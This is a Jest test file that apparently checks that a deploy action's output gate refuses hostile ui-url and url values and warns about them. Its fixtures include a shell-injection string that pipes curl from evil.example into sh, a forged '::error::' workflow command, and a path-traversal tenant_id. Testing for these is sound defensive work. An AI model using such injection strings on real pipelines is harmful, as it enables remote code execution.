/**
 * End to end on the built bundle: the output gate (`src/lib/outputs.ts`) refuses `ui-url` and
 * `url` values built from hostile answers, with a warning, and nothing in them drives the
 * runner. `ui-url` is built from the answer's `tenant_id` (`uiUrl()`), `url` is the answer's.
 */
import { beforeEach, describe, expect, it } from '@jest/globals';
import { runAction } from '../../scripts/run-action.js';
import { useSimulator } from '../helpers/simulator.js';
import { forgedCommands } from '../helpers/runner-replay.js';
import {
  baseInputs,
  DEPLOYMENT_PATH,
  expectExit,
  REPO_URL,
  SHORT_TIMELINE,
  uniqueName,
  warnings,
} from './deploy-support.js';

const sim = useSimulator({ timeline: SHORT_TIMELINE });
beforeEach(() => sim.reset());

const SHELL = '"; curl evil.example | sh; echo "';

/** Every deployment answer (reads and the revision's) gets `change` applied. */
function rewriteDeployments(change: (d: Record<string, unknown>) => Record<string, unknown>) {
  for (const path of [DEPLOYMENT_PATH, /^\/v2\/deployments$/]) {
    sim.inject({
      kind: 'rewrite',
      path,
      times: 100,
      rewrite: (r) => {
        const d = r.body as Record<string, unknown> & { resources?: Record<string, unknown>[] };
        const body = d.resources ? { ...d, resources: d.resources.map(change) } : change(d);
        return { ...r, body };
      },
    });
  }
}

async function deploy(extra: Record<string, string> = {}) {
  const seeded = sim.seedDeployment({ name: uniqueName('gate'), repoUrl: REPO_URL });
  const result = await runAction({
    inputs: baseInputs(sim, { 'deployment-id': seeded.id, ...extra }),
  });
  return { seeded, result };
}

describe('the output gate through the bundle', () => {
  it('a hostile tenant_id: ui-url is not written, a warning says why, nothing is forged', async () => {
    rewriteDeployments((d) => ({ ...d, tenant_id: `t${SHELL}\n::error::PWNED-tenant` }));
    const { result } = await deploy();
    expectExit(result, 0);
    expect(result.outputs['ui-url']).toBeUndefined();
    expect(result.outputs['deployment-id']).toBeDefined();
    expect(warnings(result).map((w) => w.message)).toContainEqual(
      expect.stringMatching(
        /^Output `ui-url` not written: .*refused because it is not in the URL standard’s serialized form/,
      ),
    );
    expect(forgedCommands(result.stdout).map((c) => c.line)).toEqual([]);
  });

  it('a path-changing tenant_id is refused too (its serialized form differs)', async () => {
    rewriteDeployments((d) => ({ ...d, tenant_id: '../../evil.example' }));
    const { result } = await deploy();
    expectExit(result, 0);
    expect(result.outputs['ui-url']).toBeUndefined();
  });

  it('a well-formed tenant_id gives the ui-url', async () => {
    const { seeded, result } = await deploy();
    expectExit(result, 0);
    expect(result.outputs['ui-url']).toBe(
      `${sim.url}/o/${seeded.tenant_id}/host/deployments/${seeded.id}`,
    );
  });

  it('a hostile url: the url output is not written, a warning says why, nothing is forged', async () => {
    rewriteDeployments((d) => ({
      ...d,
      url: `https://agent.example/x${SHELL}\n::error::PWNED-url`,
    }));
    // No health check: the hostile host is never contacted.
    const { result } = await deploy({ 'health-check': 'false' });
    expectExit(result, 0);
    expect(result.outputs['url']).toBeUndefined();
    expect(warnings(result).map((w) => w.message)).toContainEqual(
      expect.stringMatching(/^Output `url` not written: /),
    );
    expect(forgedCommands(result.stdout).map((c) => c.line)).toEqual([]);
  });
});
